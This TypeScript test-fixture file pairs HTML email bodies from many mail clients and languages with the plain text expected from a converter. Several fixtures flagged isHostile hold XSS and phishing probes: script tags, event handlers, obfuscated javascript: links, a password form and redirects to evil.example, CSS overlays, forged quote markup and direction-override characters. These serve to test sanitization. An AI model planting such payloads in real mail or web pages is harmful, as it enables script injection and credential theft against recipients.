/** A mail whose body is HTML as a program writes it, and the lines of its text that a person wants to read. */
export type HtmlMail = {
  readonly html: string;
  readonly lines: readonly string[];
  /** Whether parts of it may not be sent on. */
  readonly isHostile?: true;
};

const outlookHead = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40"><head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8"><meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);} o\\:* {behavior:url(#default#VML);} .shape {behavior:url(#default#VML);}</style><![endif]-->
<style><!--
/* Font Definitions */
@font-face {font-family:Calibri; panose-1:2 15 5 2 2 2 4 3 2 4;}
p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif; mso-fareast-language:EN-US;}
a:link, span.MsoHyperlink {mso-style-priority:99; color:#0563C1; text-decoration:underline;}
@page WordSection1 {size:612.0pt 792.0pt; margin:72.0pt 72.0pt 72.0pt 72.0pt;}
div.WordSection1 {page:WordSection1;}
@list l0 {mso-list-id:1; mso-list-type:hybrid;}
--></style><!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]--><!--[if gte mso 9]><xml><o:shapelayout v:ext="edit"><o:idmap v:ext="edit" data="1" /></o:shapelayout></xml><![endif]--></head>`;

/** Mails by the program that wrote them, or by what is special about them. */
export const htmlMails: Readonly<Record<string, HtmlMail>> = {
  'Outlook with its own quote': {
    html: `${outlookHead}<body lang="EN-GB" link="#0563C1" vlink="#954F72" style="word-wrap:break-word"><div class="WordSection1">
<p class="MsoNormal"><span style="mso-fareast-language:EN-US">Hello Alice,<o:p></o:p></span></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">the plan is
attached. See <a href="https://example.net/plan">the page</a>.<o:p></o:p></p>
<p class="MsoNormal"><span style="color:#1F497D"><o:p>&nbsp;</o:p></span></p>
<p class="MsoNormal">Kind regards<br>Ann<o:p></o:p></p>
<p class="MsoNormal"><!--[if gte vml 1]><v:shapetype id="_x0000_t75" coordsize="21600,21600"></v:shapetype><v:shape id="Logo" style='width:90pt;height:30pt'><v:imagedata src="cid:image001.png@01DB4321.ABCDEF00" o:title=""/></v:shape><![endif]--><![if !vml]><img width="120" height="40" style="width:1.25in;height:.4166in" src="cid:image001.png@01DB4321.ABCDEF00" alt="Logo of Example" v:shapes="Logo"><![endif]><o:p></o:p></p>
<div><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">
<p class="MsoNormal"><b><span lang="EN-US">From:</span></b><span lang="EN-US"> Alice &lt;alice@example.test&gt; <br><b>Sent:</b> Monday, 30 November 2026 10:00<br><b>To:</b> Ann &lt;ann@example.net&gt;<br><b>Subject:</b> Plan<o:p></o:p></span></p></div></div>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Where is the plan?<o:p></o:p></p>
</div></body></html>`,
    lines: [
      'Hello Alice,',
      '',
      'the plan is attached. See the page <https://example.net/plan>.',
      '',
      'Kind regards',
      'Ann',
      'Logo of Example',
      'From: Alice <alice@example.test>',
      'Sent: Monday, 30 November 2026 10:00',
      'To: Ann <ann@example.net>',
      'Subject: Plan',
      '',
      'Where is the plan?',
    ],
  },
  'Outlook with lists and a table': {
    html: `${outlookHead}<body lang="EN-GB"><div class="WordSection1">
<p class="MsoNormal">We need:<o:p></o:p></p>
<p class="MsoListParagraph" style="margin-left:36.0pt;text-indent:-18.0pt;mso-list:l0 level1 lfo1"><![if !supportLists]><span style="font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>Bread<o:p></o:p></p>
<p class="MsoListParagraph" style="margin-left:36.0pt;text-indent:-18.0pt;mso-list:l0 level1 lfo1"><![if !supportLists]><span style="font-family:Symbol"><span style="mso-list:Ignore">·<span style="font:7.0pt &quot;Times New Roman&quot;">&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp;&nbsp; </span></span></span><![endif]>Salt<o:p></o:p></p>
<ul style="margin-top:0cm" type="disc"><li class="MsoListParagraph" style="margin-left:0cm;mso-list:l0 level1 lfo1">Milk<o:p></o:p></li><li class="MsoListParagraph" style="margin-left:0cm;mso-list:l0 level1 lfo1">Oats<o:p></o:p></li></ul>
<table class="MsoTableGrid" border="1" cellspacing="0" cellpadding="0" style="border-collapse:collapse;border:none"><tr><td width="301" valign="top" style="width:225.4pt;border:solid windowtext 1.0pt;padding:0cm 5.4pt 0cm 5.4pt"><p class="MsoNormal">Item<o:p></o:p></p></td><td width="301" valign="top"><p class="MsoNormal">Price<o:p></o:p></p></td></tr>
<tr><td width="301" valign="top"><p class="MsoNormal">Bread<o:p></o:p></p></td><td width="301" valign="top"><p class="MsoNormal">2,50&nbsp;€<o:p></o:p></p></td></tr></table>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p><p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">Ann<o:p></o:p></p></div></body></html>`,
    lines: ['We need:', '* Bread', '* Salt', '', '* Milk', '* Oats', '', 'Item\tPrice', 'Bread\t2,50 €', '', 'Ann'],
  },
  'Outlook on the web': {
    html: `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style></head><body dir="ltr">
<div class="elementToProof" style="font-family: Aptos, Arial, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">Thanks, that works.</div>
<div class="elementToProof" style="font-family: Aptos, Arial, sans-serif; font-size: 12pt;"><br></div>
<div id="Signature"><p style="margin-top: 0; margin-bottom: 0">Ann</p><p style="margin: 0px">Example Ltd.</p></div>
<div id="appendonsend"></div><hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>From:</b> Alice &lt;alice@example.test&gt;<br><b>Sent:</b> 30 November 2026 10:00<br><b>To:</b> Ann &lt;ann@example.net&gt;<br><b>Subject:</b> Plan</font><div>&nbsp;</div></div>
<div><p>Is Monday fine?</p></div></body></html>`,
    lines: [
      'Thanks, that works.',
      '',
      'Ann',
      'Example Ltd.',
      '-----',
      'From: Alice <alice@example.test>',
      'Sent: 30 November 2026 10:00',
      'To: Ann <ann@example.net>',
      'Subject: Plan',
      '',
      'Is Monday fine?',
    ],
  },
  Gmail: {
    html: `<div dir="ltr"><div>Sounds good!<br></div><div><br></div><div>See you at 10</div><div><br clear="all"></div><div>Ann</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">On Mon, 30 Nov 2026 at 10:00, Alice &lt;<a href="mailto:alice@example.test">alice@example.test</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex"><div dir="ltr">Shall we meet?<div><br></div><div><ul><li>Monday</li><li>Tuesday<br></li></ul></div></div>
<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">Older words</blockquote></blockquote></div>
`,
    lines: [
      'Sounds good!',
      '',
      'See you at 10',
      '',
      'Ann',
      '',
      'On Mon, 30 Nov 2026 at 10:00, Alice <alice@example.test> wrote:',
      '',
      '> Shall we meet?',
      '>',
      '> * Monday',
      '> * Tuesday',
      '>',
      '>> Older words',
    ],
  },
  'Apple Mail': {
    html: `<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">Yes, <i>of course</i>.<div><br><div><span class="Apple-style-span">Ann</span></div><div><br><blockquote type="cite"><div>On 30 Nov 2026, at 10:00, Alice &lt;alice@example.test&gt; wrote:</div><br class="Apple-interchange-newline"><div><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><div style="font-family: Helvetica;">Can you come?&nbsp;</div></div></blockquote></div><br></div></body></html>`,
    lines: ['Yes, of course.', '', 'Ann', '', '> On 30 Nov 2026, at 10:00, Alice <alice@example.test> wrote:', '>', '> Can you come?'],
  },
  Thunderbird: {
    html: `<!DOCTYPE html>
<html>
  <head>
    <meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
  </head>
  <body>
    <div class="moz-cite-prefix">Am 30.11.26 um 10:00 schrieb Alice:<br>
    </div>
    <blockquote type="cite" cite="mid:a@example.test">
      <pre wrap="" class="moz-quote-pre">One
  two  three

four</pre>
    </blockquote>
    <p>Right below.</p>
    <p><br>
    </p>
    <div class="moz-signature">-- <br>
      Ann<br>
      Example Ltd.</div>
  </body>
</html>`,
    lines: ['Am 30.11.26 um 10:00 schrieb Alice:', '', '> One', '>   two  three', '>', '> four', '', 'Right below.'],
  },
  Yahoo: {
    html: `<html><head></head><body><div class="ydp1yahoo-style-wrap" style="font-family:Helvetica Neue, Helvetica, Arial, sans-serif;font-size:16px;"><div dir="ltr" data-setdir="false">Fine with me.</div><div><br></div>
        </div><div id="yahoo_quoted_123" class="yahoo_quoted">
            <div style="font-family:'Helvetica Neue', Helvetica, Arial, sans-serif;font-size:13px;color:#26282a;">
                <div>
                        On Monday, 30 November 2026 at 10:00:00 GMT, Alice &lt;alice@example.test&gt; wrote:
                    </div>
                    <div><br></div>
                    <div><br></div>
                <div><div id="yiv1">Tuesday?<br clear="none"><br clear="none">Alice</div></div>
            </div>
        </div></body></html>`,
    lines: ['Fine with me.', '', 'On Monday, 30 November 2026 at 10:00:00 GMT, Alice <alice@example.test> wrote:', '', 'Tuesday?', '', 'Alice'],
  },
  Proton: {
    html: `<div style="font-family: Arial, sans-serif; font-size: 14px;">Agreed.</div><div style="font-family: Arial, sans-serif; font-size: 14px;"><br></div><div class="protonmail_signature_block" style="font-family: Arial, sans-serif;"><div class="protonmail_signature_block-user protonmail_signature_block-empty"></div><div class="protonmail_signature_block-proton">Sent with <a target="_blank" href="https://mail.example/" rel="noopener noreferrer">Mail Example</a> secure email.</div></div><div style="font-family: Arial, sans-serif;"><br></div><div class="protonmail_quote">
        On Monday, November 30th, 2026 at 10:00, Alice &lt;alice@example.test&gt; wrote:<br><br>
        <blockquote class="protonmail_quote" type="cite">
            <p>Do we agree?</p>
        </blockquote><br>
    </div>`,
    lines: [
      'Agreed.',
      '',
      'Sent with Mail Example <https://mail.example/> secure email.',
      '',
      'On Monday, November 30th, 2026 at 10:00, Alice <alice@example.test> wrote:',
      '',
      '> Do we agree?',
    ],
  },
  'a ticket system': {
    html: `<!DOCTYPE html><html lang="en"><head><style type="text/css">table td { border-collapse: collapse; } body[dir=rtl] .directional_text_wrapper { direction: rtl; unicode-bidi: embed; }</style></head><body style="width: 100%!important; margin: 0; padding: 0;"><div style="padding: 10px ; line-height: 18px; font-family: 'Lucida Grande',Verdana,Arial,sans-serif; font-size: 12px; color:#444444;"><div style="color: #b5b5b5;">##- Please type your reply above this line -##</div><p dir="ltr">Your request (42) has been updated.</p><div style="margin-top: 25px" data-version="2"><table width="100%" cellpadding="0" cellspacing="0" border="0" role="presentation"><tr><td width="100%" style="padding: 15px 0; border-top: 1px dotted #c5c5c5;"><table width="100%" cellpadding="0" cellspacing="0" border="0" style="table-layout:fixed;" role="presentation"><tr><td valign="top" style="padding: 0 15px 0 15px; width: 40px;"><img width="40" height="40" alt="" style="height: auto; line-height: 100%;" src="https://desk.example/photo.png"/></td><td width="100%" style="padding: 0; margin: 0;" valign="top"><p style="font-size: 15px;" dir="ltr"><strong>Bo</strong> (Support)</p><p style="font-size: 13px; color: #bbbbbb;" dir="ltr">30 Nov 2026, 10:00 GMT</p><div class="zd-comment" dir="auto"><p dir="auto">Hello Alice,</p><ol dir="auto" start="2"><li>Restart it.</li><li>Call us on <a href="tel:+4912345">+49 12345</a>.</li></ol></div></td></tr></table></td></tr></table></div></div><span style="color:#FFFFFF" aria-hidden="true">[ABC-DEF]</span></body></html>`,
    lines: [
      '##- Please type your reply above this line -##',
      '',
      'Your request (42) has been updated.',
      '',
      'Bo (Support)',
      '',
      '30 Nov 2026, 10:00 GMT',
      '',
      'Hello Alice,',
      '',
      '2. Restart it.',
      '3. Call us on +49 12345.',
      '',
      '[ABC-DEF]',
    ],
  },
  'a receipt of nested tables': {
    html: `<html><body bgcolor="#f6f6f6" style="margin:0"><table width="100%" bgcolor="#f6f6f6"><tbody><tr><td></td><td width="600"><table width="100%" cellpadding="0" cellspacing="0"><tr><td style="padding:20px"><table width="100%">
<tr><td align="center"><h1>Thank you</h1></td></tr>
<tr><td><table cellpadding="0" cellspacing="0" width="80%" align="center"><tr><td>Alice<br>Order 123<br>30 November 2026</td></tr><tr><td height="20" style="font-size:0;line-height:0">&nbsp;</td></tr>
<tr><td><table width="100%" border="1"><thead><tr><th align="left">Item</th><th>Number</th><th align="right">Price</th></tr></thead>
<tbody><tr><td>Tea, green</td><td>2</td><td align="right">$&nbsp;9.00</td></tr><tr><td>Cup</td><td></td><td align="right">$&nbsp;5.50</td></tr></tbody><tfoot><tr><td colspan="2">Total</td><td align="right"><b>$&nbsp;14.50</b></td></tr></tfoot></table></td></tr></table></td></tr>
<tr><td align="center"><a href="https://shop.example/orders/123" style="display:inline-block;background:#348eda;color:#fff">View in browser</a></td></tr></table></td></tr></table></td><td></td></tr></tbody></table></body></html>`,
    lines: [
      'Thank you',
      '',
      'Alice',
      'Order 123',
      '30 November 2026',
      '',
      'Item\tNumber\tPrice',
      'Tea, green\t2\t$ 9.00',
      'Cup\t\t$ 5.50',
      'Total\t$ 14.50',
      '',
      'View in browser <https://shop.example/orders/123>',
    ],
  },
  'a newsletter with a hidden beginning': {
    html: `<!doctype html><html xmlns="http://www.w3.org/1999/xhtml" xmlns:o="urn:schemas-microsoft-com:office:office"><head><!--[if gte mso 15]><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml><![endif]--><title>*|MC:SUBJECT|*</title><style>@media (max-width:480px){.col{width:100%!important}} .preheader{display:none!important}</style></head><body id="bodyTable">
<!--*|IF:MC_PREVIEW_TEXT|*--><!--[if !gte mso 9]><!----><span class="mcnPreviewText" style="display:none; font-size:0px; line-height:0px; max-height:0px; max-width:0px; opacity:0; overflow:hidden; visibility:hidden; mso-hide:all;">Big news this week</span><!--<![endif]-->
<div style="max-height:0;overflow:hidden">&#847;&zwnj;&nbsp;&#8199;&#65279;&#847;&zwnj;&nbsp;&#8199;&#65279;</div>
<div>&#847;&zwnj;&nbsp;&#8203;&shy;&#847; &zwnj;&nbsp;&#65279;&#847;</div>
<center><table border="0" cellpadding="0" cellspacing="0" width="100%"><tr><td align="center">
<!--[if (gte mso 9)|(IE)]><table align="center" border="0" width="600"><tr><td width="300"><![endif]-->
<table class="col" align="left" width="300"><tr><td><h2>Har&shy;bour</h2><p>A new ferry.<br/>Every hour.</p></td></tr></table>
<!--[if (gte mso 9)|(IE)]></td><td width="300"><![endif]-->
<table class="col" align="left" width="300"><tr><td><h2>Town</h2><p>Two caf&eacute;s &amp; a park.</p></td></tr></table>
<!--[if (gte mso 9)|(IE)]></td></tr></table><![endif]-->
</td></tr><tr><td><a href="https://news.example/a"><img src="https://images.news.example/b.png"></a><a href="https://news.example/a"><img src="https://images.news.example/a.png" alt="Read on"></a>&nbsp;&nbsp;|&nbsp;&nbsp;<a href="https://news.example/leave">Leave</a><img src="https://track.example/o.gif" width="1" height="1" alt=""></td></tr></table></center></body></html>`,
    lines: [
      'Harbour',
      '',
      'A new ferry.',
      'Every hour.',
      '',
      'Town',
      '',
      'Two cafés & a park.',
      '',
      'Read on <https://news.example/a>  |  Leave <https://news.example/leave>',
    ],
  },
  'a notification with code': {
    html: `<p dir="auto">Ann left a comment (<a href="https://code.example/a/b/issues/5#c1">a/b#5</a>)</p>
<p dir="auto">Use <code class="notranslate">a  b</code>:</p>
<div class="highlight"><pre class="notranslate"><span>if</span> (a &lt; b) {

  <span>return</span>	1;
}
</pre></div>
<ul class="contains-task-list"><li><input type="checkbox" disabled> One<ol><li>Two</li></ol></li><li><p>Three</p><p>Four</p></li></ul>
<p style="font-size:small;color:#666;">&mdash;<br>Reply to this email directly, <a href="https://code.example/a/b/issues/5">view it</a>.<br>You are receiving this because you are subscribed.<img src="https://code.example/beacon.gif" height="1" width="1" alt=""><span style="color: transparent; font-size: 0; display: none; visibility: hidden; overflow: hidden; opacity: 0; width: 0; height: 0; max-width: 0; max-height: 0; mso-hide: all">Message ID: <span>&lt;a/b/issues/5@code.example&gt;</span></span></p>`,
    lines: [
      'Ann left a comment (a/b#5 <https://code.example/a/b/issues/5#c1>)',
      '',
      'Use a b:',
      '',
      'if (a < b) {',
      '',
      '  return\t1;',
      '}',
      '',
      '* One',
      '  1. Two',
      '* Three',
      '  Four',
      '',
      '—',
      'Reply to this email directly, view it <https://code.example/a/b/issues/5>.',
      'You are receiving this because you are subscribed.',
    ],
  },
  'lines that style keeps': {
    html: `<html><body><div style="font-family: Arial; white-space: pre-wrap;">Dear Alice,

  1. one
  2. two

<b>Ann</b></div><dl><dt>Term</dt><dd>Meaning</dd></dl></body></html>`,
    lines: ['Dear Alice,', '', '  1. one', '  2. two', '', 'Ann', '', 'Term', 'Meaning'],
  },
  'Hebrew in a document from right to left': {
    html: `<html dir="rtl" lang="he"><head><meta charset="utf-8"></head><body><div style="text-align:right">שלום אליס,</div><div><br></div><div>הפגישה ב-10:30, ראי <a href="https://example.net/x">כאן</a> (v2.0).</div><ul><li>אחד</li><li>שניים</li></ul><blockquote style="margin-right:40px;border-right:1px solid #ccc">מתי?</blockquote></body></html>`,
    lines: ['שלום אליס,', '', 'הפגישה ב-10:30, ראי כאן <https://example.net/x> (v2.0).', '', '* אחד', '* שניים', '', '> מתי?'],
  },
  'Arabic and Persian without a direction': {
    html: '<div>مرحبا Alice،</div><div>الاجتماع في Berlin يوم <b>الاثنين</b>.</div><p dir="rtl">می&zwnj;خواهم<br>نامه&zwnj;ها را ببینم 👩&zwj;👧</p>',
    lines: ['مرحبا Alice،', 'الاجتماع في Berlin يوم الاثنين.', '', 'می\u200cخواهم', 'نامه\u200cها را ببینم 👩\u200d👧'],
  },
  Japanese: {
    html: '<html><body><p>お世話になっております。<br>\n資料を添付いたしますので、ご確認ください。</p><p>　株式会社サンプル<br>　山田</p></body></html>',
    lines: ['お世話になっております。', '資料を添付いたしますので、ご確認ください。', '', '　株式会社サンプル', '　山田'],
  },
  'an invitation of a calendar': {
    html: `<html><head><style>body, html {font-family: Roboto, Helvetica, Arial, sans-serif;} .body-container p {margin:0}</style></head><body><span itemscope itemtype="http://schema.org/InformAction"><span style="display:none" itemprop="about" itemscope><meta itemprop="description" content="Invitation from Ann"/></span><table border="0" cellpadding="0" cellspacing="0" role="presentation" align="center" style="width:100%;" class="body-container"><tbody><tr><td style=""><!--[if mso | IE]><table border="0"><tr><td><![endif]--><h2 class="primary-text">When</h2><span><time itemprop="startDate" datetime="20261201T090000Z">Tuesday 1 Dec 2026 ⋅ 10:00 – 11:00</time></span><h2>Guests</h2><div><span><a class="primary-text underline-on-hover" href="mailto:ann@example.net">ann@example.net</a></span><span> - organiser</span></div><div><a href="mailto:alice@example.test">alice@example.test</a></div><table><tr><td><a href="https://calendar.example/?rst=1">Yes</a></td><td><a href="https://calendar.example/?rst=2">No</a></td></tr></table></td></tr></tbody></table></span></body></html>`,
    lines: [
      'When',
      '',
      'Tuesday 1 Dec 2026 ⋅ 10:00 – 11:00',
      '',
      'Guests',
      '',
      'ann@example.net - organiser',
      'alice@example.test',
      '',
      'Yes <https://calendar.example/?rst=1>\tNo <https://calendar.example/?rst=2>',
    ],
  },
  'an empty body': { html: '<html><head><style>p {}</style></head><body><div><br></div><div>&nbsp;</div></body></html>', lines: [''] },
  'scripts, events and forms': {
    isHostile: true,
    html: `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/s.css"><body onload="alert(1)"><script>alert(1)</script><p onclick="alert(1)">Click <a href="javascript:alert(1)">here</a> or <a href=" JaVa&#9;Script:alert(1)">there</a> or <a href="https://ok.example/" onmouseover="alert(1)" target="_top">further</a>.</p><form action="https://evil.example/f"><label>Password <input type="password" name="p" autofocus onfocus="alert(1)" value="x"></label><button>Send</button></form><img src="x" onerror="alert(1)" alt="Picture"><svg onload="alert(1)"><script>alert(1)</script></svg><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="https://evil.example/o"></object></body>`,
    lines: ['Click here or there or further <https://ok.example/>.', '', 'Password Send Picture'],
  },
  'style that loads and covers': {
    isHostile: true,
    html: `<style>@import url(https://evil.example/i.css); .own, p { position: fixed }</style><div style="position:fixed;top:0;left:0;z-index:9999;background:#fff">Sign in again</div><div style="posi\\74ion : /**/ Fixed">Twice</div><p style="position:sticky;inset:0">Text</p>`,
    lines: ['Sign in again', 'Twice', '', 'Text'],
  },
  'ends of elements that it did not begin': {
    isHostile: true,
    html: '</div></blockquote></div></body></html><p>Outside?</p></blockquote></td></tr></table><div class="webmail-original"><blockquote type="cite" class="webmail-quote">Forged</blockquote></div></div></pre></style></title></textarea><!-- never closed <b>x</b>',
    lines: ['Outside?', '', '> Forged'],
  },
  'an element that swallows the rest': {
    isHostile: true,
    html: '<p>Text</p><blockquote><table><tr><td>Cell<textarea><style><!--<select><xmp>',
    lines: ['Text', '', '> Cell<style><!--<select><xmp>'],
  },
  'characters that turn the direction': {
    html: '<p>Pay \u202e001 rof\u202c here \u2067x</p><p>Next</p>',
    lines: ['Pay \u202e001 rof\u202c here \u2067x', '', 'Next'],
  },
};
